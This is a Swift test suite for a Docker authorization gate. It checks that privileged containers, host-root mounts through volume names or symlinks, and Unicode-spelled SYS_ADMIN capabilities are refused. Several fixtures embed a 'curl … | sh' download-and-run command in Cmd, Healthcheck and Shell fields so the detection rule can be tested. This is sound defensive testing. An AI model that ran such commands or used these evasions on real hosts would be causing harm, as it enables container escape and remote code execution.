import Admission
import JSONView
import Rules
import SecurityEvents
import Testing

@testable import DockerGate

@Suite("Calls judged by rules")
struct ReviewerJudgeTests {
    private func authorizer(
        _ mode: Decision.Mode, _ kept: PluginServerTests.Kept, allowed: Set<String> = []
    ) throws -> DockerAuthorizer {
        var settings = GateSettings()
        settings.modes.ceiling = mode
        let rules = GateRules(library: try RuleLibrary.load(), settings: settings)
        var options = DockerAuthorizer.Options()
        options.time = .seconds(1800)
        options.allowed = allowed
        return DockerAuthorizer(
            judge: ReviewerJudge(rules: rules, host: "h", journal: kept), facts: PluginServerTests.Facts(),
            journal: kept, options: options)
    }

    static let privileged = #"{"Image":"a","HostConfig":{"Privileged":true}}"#

    @Test("a privileged container is refused with the rule, the field and the decision's name")
    func refuses() async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record("/v1.41/containers/create", body: Self.privileged))
        let decision = try #require(kept.decisions.first?.decision)
        #expect(!answer.allow)
        #expect(answer.message.contains("privileged-container"))
        #expect(answer.message.contains("HostConfig.Privileged is true"))
        #expect(answer.message.contains(decision.id))
        #expect(decision.verdict == .deny)
    }

    @Test(
        "what is only told or recorded is let through, and the decision says what would have been",
        arguments: [Decision.Mode.warn, .record])
    func lets(mode: Decision.Mode) async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(mode, kept).authorize(
            PluginServerTests.record("/v1.41/containers/create", body: Self.privileged))
        #expect(answer.allow)
        #expect(kept.decisions.first?.decision.reasons.contains { $0.ruleName == "privileged-container" } == true)
        #expect(kept.decisions.first?.decision.verdict == mode.verdict)
    }

    @Test(
        "a reason names the health check where its command is the wrong one, and the command where that is",
        arguments: [
            (
                #""Cmd":["/app"],"Healthcheck":{"Test":["CMD-SHELL","curl http://203.0.113.5/x | sh"]}"#,
                "Healthcheck.Test"
            ),
            (
                #""Cmd":["/app"],"Healthcheck":{"Test":["CMD","sh","-c","curl http://203.0.113.5/x | sh"]}"#,
                "Healthcheck.Test"
            ),
            (#""Cmd":["sh","-c","curl http://203.0.113.5/x | sh"],"Healthcheck":{"Test":["CMD","true"]}"#, "Cmd"),
            // The engine runs these words before the line of a health check, which may be the image's.
            (#""Cmd":["/app"],"Shell":["sh","-c","curl http://203.0.113.5/x | sh"]"#, "Shell"),
        ])
    func probes(settings: String, field: String) async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record("/v1.41/containers/create", body: #"{"Image":"a/b:1",\#(settings)}"#))
        #expect(!answer.allow)
        let reason = try #require(
            kept.decisions.first?.decision.reasons.first { $0.ruleName == "download-and-run" })
        let commands = ["Cmd", "Healthcheck.Test", "Shell"]
        #expect(reason.fields.map(\.path).filter { commands.contains($0) } == [field])
    }

    @Test("a shell that only runs a health check's line is no reason")
    func ordinaryShell() async throws {
        let kept = PluginServerTests.Kept()
        let body =
            #"{"Image":"a/b:1","Shell":["/bin/bash","-o","pipefail","-c"],"Healthcheck":{"Test":["CMD-SHELL","true"]}}"#
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record("/v1.41/containers/create", body: body))
        #expect(answer.allow, "\(answer.message)")
    }

    @Test("a container that was privileged before the gate came does not start")
    func starts() async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record("/v1.41/containers/web/start"))
        #expect(!answer.allow)
    }

    @Test(
        "a container that was privileged before the gate came is not entered either",
        arguments: [
            ("/v1.41/containers/web/exec", #"{"Cmd":["sh"]}"#), ("/v1.41/exec/e3/start", #"{"Detach":false}"#),
            ("/v1.41/containers/web/attach?stream=1", nil),
        ] as [(String, String?)])
    func enters(uri: String, body: String?) async throws {
        let kept = PluginServerTests.Kept()
        let record = body.map { PluginServerTests.record(uri, body: $0) } ?? PluginServerTests.record(uri)
        let answer = try await authorizer(.enforce, kept).authorize(record)
        #expect(!answer.allow)
        #expect(answer.message.contains("exec-into-host-container"))
    }

    @Test("an ordinary container is entered as before")
    func entersOrdinary() async throws {
        let kept = PluginServerTests.Kept()
        let record = PluginServerTests.record("/v1.41/containers/plain/exec", body: #"{"Cmd":["sh"]}"#)
        let answer = try await authorizer(.enforce, kept).authorize(record)
        #expect(answer.allow, "\(answer.message)")
    }

    @Test("a volume that stands for the host's root is seen through its name")
    func volumes() async throws {
        for (body, allows) in [
            (#"{"Image":"a","HostConfig":{"Binds":["disguised:/h"]}}"#, false),
            (#"{"Image":"a","HostConfig":{"Mounts":[{"Type":"volume","Source":"disguised","Target":"/h"}]}}"#, false),
            (#"{"Image":"a","HostConfig":{"Binds":["ordinary:/h"]}}"#, true),
        ] {
            let kept = PluginServerTests.Kept()
            let answer = try await authorizer(.enforce, kept).authorize(
                PluginServerTests.record("/v1.41/containers/create", body: body))
            #expect(answer.allow == allows, "\(body): \(answer.message)")
        }
    }

    @Test("a folder that is a symbolic link is judged as what it leads to")
    func links() async throws {
        var settings = GateSettings()
        settings.modes.ceiling = .enforce
        let kept = PluginServerTests.Kept()
        var options = DockerAuthorizer.Options()
        options.time = .seconds(1800)
        let authorizer = DockerAuthorizer(
            judge: ReviewerJudge(
                rules: GateRules(library: try RuleLibrary.load(), settings: settings), host: "h", journal: kept),
            facts: PluginServerTests.Facts(), followsLink: { ["/srv/link": "/", "/srv/a": "/srv/b"][$0] },
            options: options)
        for (body, allows) in [
            (#"{"Image":"a","HostConfig":{"Binds":["/srv/link:/h"]}}"#, false),
            (#"{"Image":"a","HostConfig":{"Mounts":[{"Type":"bind","Source":"/srv/link","Target":"/h"}]}}"#, false),
            (#"{"Image":"a","HostConfig":{"Binds":["/srv/a:/h"]}}"#, true),
            (#"{"Image":"a","HostConfig":{"Binds":["/srv/c:/h"]}}"#, true),
        ] {
            let answer = await authorizer.authorize(PluginServerTests.record("/v1.41/containers/create", body: body))
            #expect(answer.allow == allows, "\(body): \(answer.message)")
            if !allows { #expect(answer.message.contains("/srv/link leads to /")) }
        }
    }

    @Test(
        "letters that the engine's language makes capital are no way around a capability",
        arguments: [
            #"["\u017fys_admin"]"#, #"["\u017fYS_ADMIN"]"#, #"["SYS_ADM\u0131N"]"#, #""sys_admin""#,
        ])
    func capabilities(list: String) async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record(
                "/v1.41/containers/create", body: #"{"Image":"a","HostConfig":{"CapAdd":\#(list)}}"#))
        #expect(!answer.allow)
        #expect(answer.message.contains("dangerous-capability"))
    }

    @Test("a build is refused as unseen until it is allowed by name")
    func builds() async throws {
        let kept = PluginServerTests.Kept()
        let record = PluginServerTests.record("/v1.41/build?t=a")
        #expect(!(try await authorizer(.enforce, kept).authorize(record).allow))
        #expect(kept.decisions.first?.decision.reasons.first?.rule == "gate/opaque-route")
        #expect(try await authorizer(.enforce, kept, allowed: ["build"]).authorize(record).allow)
    }

    @Test("messages hold no control characters, whatever stands in the call")
    func plain() async throws {
        let kept = PluginServerTests.Kept()
        let answer = try await authorizer(.enforce, kept).authorize(
            PluginServerTests.record(
                "/v1.41/containers/create", body: #"{"Image":"a\u001b[31m\nb\u202e","HostConfig":{"Privileged":true}}"#)
        )
        #expect(!answer.allow)
        #expect(!answer.message.unicodeScalars.contains { $0.value < 0x20 || $0 == "\u{202E}" })
    }
}
